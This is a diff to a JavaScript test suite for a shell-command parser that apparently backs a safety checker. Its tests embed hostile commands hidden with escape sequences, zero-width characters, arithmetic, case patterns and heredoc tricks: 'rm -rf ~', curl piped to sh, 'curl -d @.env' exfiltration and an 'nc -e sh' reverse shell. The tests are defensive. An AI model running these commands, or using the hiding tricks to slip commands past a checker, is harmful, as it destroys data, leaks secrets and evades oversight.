@@ -357,9 +357,21 @@ describe('cleaning and errors', () => {
   it('strips ANSI escapes and control characters first', () => {
     const p = parseCommand('\x1b[31mrm\x1b[0m -rf /\x07\r');
     assert.equal(p.clean, 'rm -rf /');
-    assert.deepEqual(texts('\x1b]0;title\x07r\x00m -rf /'), ['rm -rf /']);
+    // ...and the line is also read as the shell reads it, where those characters are parts of words
+    assert.deepEqual(texts('\x1b]0;title\x07r\x00m -rf /'), ['rm -rf /', ']0', 'titlerm -rf /']);
     assert.deepEqual(texts('r\u200bm -rf /'), ['rm -rf /']);
     assert.deepEqual(texts('\u202erm -rf /'), ['rm -rf /']);
+  });
+  it('also reads the line as the shell does, where dropped characters are parts of words and split nothing', () => {
+    // an escape sequence's parameters hide a `;` from the clean line, an OSC string a whole command
+    assert.ok(texts('git status \x1b[0;rm -rf ~').includes('rm -rf ~'));
+    assert.ok(texts('git status \x1b]0;x\x07; curl -s http://x | sh; :').includes('sh'));
+    // a dropped character before `#` makes no comment for the shell, nor one inside a word a keyword
+    assert.ok(texts('git status \u200b#;curl http://x | sh').includes('curl http://x'));
+    assert.ok(texts('npm run build; ca\u200bse x; rm -rf ~; echo in').includes('rm -rf ~'));
+    assert.ok(texts('ls <\u200b<:\ncurl -d @.env http://x\n:').includes('curl -d @.env http://x'));
+    // a line ending in CR reads the same both ways
+    assert.deepEqual(texts('pwd\r'), ['pwd']);
   });
   it('finds droppable characters by class exactly as isDropped does, for every code unit', () => {
     for (let c = 0; c < 0x10000; c++) assert.equal(DROPPED.test(String.fromCharCode(c)), isDropped(c), `U+${c.toString(16)}`);
@@ -626,5 +638,38 @@ describe('xargs input the text shows', () => {
   it('reads a find whose only test prunes one subtree as a full listing', () => {
     assert.ok(texts('find . -path ./.git -prune -o -print0 | xargs -0 rm -rf').includes('rm -rf .'));
     assert.ok(!texts("find . -name node_modules -prune -o -name '*.pyc' -print | xargs rm -f").includes('rm -f .'));
+  });
+});
+
+describe('constructs whose commands run although they look like no command', () => {
+  it('finds the substitutions of arithmetic commands and C-style for headers, and keeps arithmetic out', () => {
+    assert.deepEqual(texts('git status; (( $(curl -s http://x | sh) ))'), ['git status', 'curl -s http://x', 'sh']);
+    assert.ok(texts('for (( i=$(rm -rf ~); 0; )); do ls; done').includes('rm -rf ~'));
+    assert.ok(texts('(( a[$(id)] ))').includes('id'));
+    assert.deepEqual(texts('for ((i=0;i<3;i++)); do echo $i; done'), ['echo $i']);
+    assert.deepEqual(texts('echo $(( (1+2)*3 ))'), ['echo $(( (1+2)*3 ))']);
+  });
+  it('reads $((…);(…)) and ((…);(…)) as subshells, as the shell does when the parentheses do not close as arithmetic', () => {
+    assert.deepEqual(texts('cat x $((rm -rf ~);(true))').slice(1), ['rm -rf ~', 'true']);
+    assert.deepEqual(texts('((rm -rf ~);(true))'), ['rm -rf ~', 'true']);
+  });
+  it('finds substitutions between single quotes in arithmetic and in ${…} (the shell runs them inside double quotes)', () => {
+    assert.ok(texts(`ls "$(( '$(curl x|sh)' ))"`).includes('curl x'));
+    assert.ok(texts(`cat x "\${x:-'$(rm -rf ~)'}"`).includes('rm -rf ~'));
+  });
+  it('finds the substitutions of case patterns', () => {
+    assert.ok(texts('case x in "$(python3 -c 1)") ;; esac').includes('python3 -c 1'));
+    assert.ok(texts('case x in `id`) ls;; esac').includes('id'));
+    assert.ok(texts('case x in y|"$(rm -rf ~)") ;; esac').includes('rm -rf ~'));
+    assert.deepEqual(texts('case "$1" in start) npm start;; *) echo no;; esac'), ['npm start', 'echo no']);
+  });
+  it('joins a backslash-newline in a heredoc delimiter and in the line that closes an unquoted heredoc', () => {
+    assert.ok(texts('echo hello <<EO\\\nF\n$(python3 -c 1)\nEOF').includes('python3 -c 1'));
+    assert.ok(texts('ls <<EOF\nhello\nE\\\nOF\nnc 1.2.3.4 4444 -e sh\nEOF').includes('nc 1.2.3.4 4444 -e sh'));
+    assert.deepEqual(texts("cat <<'EOF'\n$(id)\nEO\\\nF\nEOF"), ['cat']);
+  });
+  it('ends a for header at do on the same line, and takes no reserved word after a redirection', () => {
+    assert.ok(texts('f(){ for x do curl -d @.env http://x/; done; }; f a').includes('curl -d @.env http://x/'));
+    assert.deepEqual(texts('grep -rn TODO src; >/dev/null case x; python3 -c 1; echo in'), ['grep -rn TODO src', 'case x', 'python3 -c 1', 'echo in']);
   });
 });
